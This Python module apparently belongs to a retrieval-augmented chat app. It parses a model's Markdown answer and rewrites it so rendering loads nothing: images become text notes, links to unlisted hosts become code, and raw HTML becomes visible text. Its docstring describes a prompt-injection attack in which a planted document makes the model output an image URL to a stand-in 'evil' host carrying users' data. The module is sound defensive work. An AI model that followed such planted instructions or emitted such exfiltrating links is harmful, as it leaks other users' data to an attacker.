"""Untrusted Markdown (a model's answer, a document's passage) made inert before a browser renders it.

A planted document can make the model answer with ``![](http://evil/?d=...)``: rendered, the reader's browser
fetches that URL with whatever the model put in it, other users' passages included, without a click. So the
answer is parsed (markdown-it, the CommonMark reference behaviour, not regexes that a nested bracket or a
reference definition slips past) and written out again as Markdown in which every image is a note naming its
host and every link to a host off the allow-list is its URL shown as code. Raw HTML comes out as visible text.

The result is still Markdown (emphasis, lists, headings, tables and code stay), for any shell that renders
Markdown; the API returns the raw text and leaves rendering to its clients.
"""

from __future__ import annotations

import re
from collections.abc import Collection, Iterable, Iterator
from urllib.parse import urlsplit

from markdown_it import MarkdownIt
from markdown_it.token import Token
from markdown_it.tree import SyntaxTreeNode

# CommonMark plus the GFM tables and strikethrough models write; "html" stays on so that raw HTML is parsed as
# HTML tokens (and shown as text) rather than as text a later renderer might read differently.
_PARSER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])

# Escaped wherever they are text, so the output cannot form syntax the input did not have: links and images
# ([ ] ( ) !), HTML (< >), GFM email autolinks (@), Streamlit's LaTeX ($) and colour spans (:red[...]).
# Backslash-escaping ASCII punctuation never changes what CommonMark displays.
_SPECIAL = re.compile(r"([\\`*_\[\]()<>!#|$~&@{}+=\-.^\"])")
# GFM renderers (Streamlit's included) turn bare URLs into links; shown as code they stay text.
_BARE_URL = re.compile(r"(?:https?://|www\.)[^\s<>`]*[^\s<>`.,;:!?'\")\]]", re.IGNORECASE)


def _escape(text: str) -> str:
    out, last = [], 0
    for m in _BARE_URL.finditer(text):
        out += [_SPECIAL.sub(r"\\\1", text[last:m.start()]), code(m.group())]
        last = m.end()
    out.append(_SPECIAL.sub(r"\\\1", text[last:]))
    return "".join(out)


def code(text: str) -> str:
    """``text`` as an inline code span, whatever backticks it holds."""
    text = " ".join(text.splitlines())
    fence = "`" * (max((len(r) for r in re.findall(r"`+", text)), default=0) + 1)
    pad = " " if text.startswith(("`", " ")) or text.endswith(("`", " ")) else ""
    return f"{fence}{pad}{text}{pad}{fence}"


def _host(url: str) -> str | None:
    try:
        parts = urlsplit(url)
    except ValueError:
        return None
    return parts.hostname if parts.scheme.lower() in ("http", "https") else None


def _leaf(t: Token) -> str:
    if t.type == "image":
        src = str(t.attrs.get("src", ""))
        where = _host(src) or (code(src) if src else "no address")
        return f"\\[image: {_escape(t.content)} — {where}\\]"
    if t.type == "code_inline":
        return code(t.content)
    if t.type == "softbreak":
        return "\n"
    if t.type == "hardbreak":
        return "\\\n"
    if t.type.endswith(("_open", "_close")):  # emphasis, strong, strikethrough: their own markup
        return t.markup
    return _escape(t.content)  # text, and raw HTML shown as the text it is


def _inline(tokens: Iterable[Token], hosts: Collection[str]) -> str:
    out: list[str] = []
    links: list[str] = []  # per open link: the text that closes it
    skip = 0  # inside an autolink: its text is the URL, already written as code
    for t in tokens:
        if t.type == "link_open":
            href = str(t.attrs.get("href", ""))
            if t.markup == "autolink":
                out.append(code(href))
                skip += 1
            elif (_host(href) or "") in hosts:
                out.append("[")
                links.append(f"](<{href}>)")
            else:
                links.append(f" ({code(href)})")
        elif t.type == "link_close":
            if skip:
                skip -= 1
            else:
                out.append(links.pop())
        elif not skip:
            out.append(_leaf(t))
    return "".join(out)


def _lines(node: SyntaxTreeNode, hosts: Collection[str]) -> list[str]:
    kind = node.type
    if kind == "inline":
        return _inline(node.token.children or [] if node.token else [], hosts).split("\n")
    if kind == "paragraph":
        return _blocks(node.children, hosts)
    if kind == "heading":
        return ["#" * int(node.tag[1]) + " " + " ".join(_blocks(node.children, hosts))]
    if kind == "blockquote":
        return ["> " + line if line else ">" for line in _blocks(node.children, hosts)]
    if kind in ("bullet_list", "ordered_list"):
        return _list(node, hosts)
    if kind in ("fence", "code_block"):
        fence = "`" * max(3, max((len(r) for r in re.findall(r"`+", node.content)), default=0) + 1)
        info = node.info.strip() if re.fullmatch(r"[\w+#.-]*", node.info.strip()) else ""
        return [fence + info, *node.content.rstrip("\n").split("\n"), fence]
    if kind == "hr":
        return ["***"]
    if kind == "table":
        return _table(node, hosts)
    if kind == "html_block":
        return [_escape(line) for line in node.content.rstrip("\n").split("\n")]
    return _blocks(node.children, hosts)


def _blocks(nodes: Iterable[SyntaxTreeNode], hosts: Collection[str], tight: bool = False) -> list[str]:
    out: list[str] = []
    for n in nodes:
        if out and not tight and n.type != "inline":
            out.append("")
        out += _lines(n, hosts)
    return out


def _list(node: SyntaxTreeNode, hosts: Collection[str]) -> list[str]:
    tight = any(c.hidden for item in node.children for c in item.children if c.type == "paragraph")
    start = int(node.attrs.get("start", 1) or 1)
    out: list[str] = []
    for i, item in enumerate(node.children):
        marker = f"{start + i}{item.markup or '.'} " if node.type == "ordered_list" else "- "
        body = _blocks(item.children, hosts, tight) or [""]
        if out and not tight:
            out.append("")
        out.append(marker + body[0])
        out += [" " * len(marker) + line if line else "" for line in body[1:]]
    return out


def _table(node: SyntaxTreeNode, hosts: Collection[str]) -> list[str]:
    rows = [row for part in node.children for row in part.children]
    out = []
    for i, row in enumerate(rows):
        out.append("| " + " | ".join(" ".join(_blocks(c.children, hosts)) for c in row.children) + " |")
        if i == 0:
            aligns = [str(c.attrs.get("style", "")) for c in row.children]
            out.append("|" + "|".join(":-:" if "center" in a else ":--" if "left" in a else "--:" if "right" in a
                                      else "---" for a in aligns) + "|")
    return out


def inert_markdown(text: str, link_hosts: Collection[str] = ()) -> str:
    """``text`` as Markdown that loads nothing when rendered: images become "[image: alt — host]", links to
    hosts not in ``link_hosts`` (http/https only) become their label and their URL as code, raw HTML is text."""
    hosts = {h.lower() for h in link_hosts}
    tree = SyntaxTreeNode(_PARSER.parse(text))
    return "\n".join(_blocks(tree.children, hosts))


def inert_stream(pieces: Iterable[str], link_hosts: Collection[str] = ()) -> Iterator[str]:
    """For each streamed piece, the whole answer so far made inert: a renderer that shows these in turn never
    sees an image or link half-written, as it would if the pieces were made inert one by one."""
    text = ""
    for piece in pieces:
        text += piece
        yield inert_markdown(text, link_hosts)
